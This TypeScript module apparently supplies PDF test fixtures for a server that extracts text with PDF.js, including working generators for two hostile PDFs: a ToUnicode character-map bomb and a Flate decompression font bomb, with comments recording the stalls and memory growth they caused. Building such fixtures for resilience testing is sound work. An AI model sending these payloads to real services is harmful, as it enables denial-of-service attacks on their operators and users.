import { createDeflate, deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';

/**
 * A PDF of `pages` small pages, page n saying only "seiteN": which of these words a reader finds
 * tells which pages it read (the text of the whole file stays far below the search's text bound).
 */
export function manyPagePdf(pages: number): Promise<Buffer> {
  const doc = new PDFDocument({ size: 'A6', autoFirstPage: false });
  const chunks: Buffer[] = [];
  doc.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(chunks))));
  for (let n = 1; n <= pages; n++) doc.addPage().fontSize(11).text(`seite${n}`);
  doc.end();
  return done;
}

/** A PDF from its objects' bodies (object 1 is the catalog), with a correct cross-reference table. */
function pdfOf(objects: ReadonlyArray<string | Buffer>): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    const part = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]);
    offsets.push(offset);
    parts.push(part);
    offset += part.length;
  });
  const entries = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}` +
        `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const streamOf = (dictionary: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);

/** One page saying `word` in font F1 (object 3, given), its content stream object 5, then `more` objects. */
function onePage(fontObject: string, word: string, ...more: Array<string | Buffer>): Buffer {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    fontObject,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
    streamOf('', Buffer.from(`BT /F1 12 Tf (${word}) Tj ET`)),
    ...more,
  ]);
}

/**
 * A hostile PDF of about a kilobyte: its font's character map (ToUnicode) names `ranges` ranges of
 * 16.7 million codes each, which PDF.js fills in one synchronous loop (measured in the server
 * process: 4 ranges held the event loop for 198 s and grew it by 4 GB).
 */
export function characterMapBombPdf(ranges = 4): Buffer {
  const lines = Array.from({ length: ranges }, (_, i) => {
    const high = (i % 255).toString(16).padStart(2, '0');
    return `<${high}000000> <${high}ffffff> <0041>`;
  });
  const cmap =
    '/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /Bomb def ' +
    '1 begincodespacerange <00000000> <ffffffff> endcodespacerange ' +
    `${ranges} beginbfrange\n${lines.join('\n')}\nendbfrange endcmap ` +
    'CMapName currentdict /CMap defineresource pop end end';
  return onePage(
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>',
    'bombe',
    streamOf('/Filter /FlateDecode', deflateSync(cmap)),
  );
}

/**
 * A hostile PDF whose embedded font is a Flate stream that unpacks to `megabytes` MB of zeros (a
 * decompression bomb: 1,000 MB from 1 MB); PDF.js unpacks a font whole, in typed arrays outside the
 * JavaScript heap (measured in the server process: 1,000 MB held the event loop for 24 s, +2.2 GB).
 */
export async function fontBombPdf(megabytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const packed: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => packed.push(chunk));
  const megabyte = Buffer.alloc(1024 * 1024);
  for (let i = 0; i < megabytes; i++) deflate.write(megabyte);
  await new Promise<void>((resolve) => {
    deflate.on('end', resolve);
    deflate.end();
  });
  return onePage(
    '<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>',
    'bombe',
    '<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 ' +
      '/Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>',
    streamOf('/Filter /FlateDecode', Buffer.concat(packed)),
  );
}
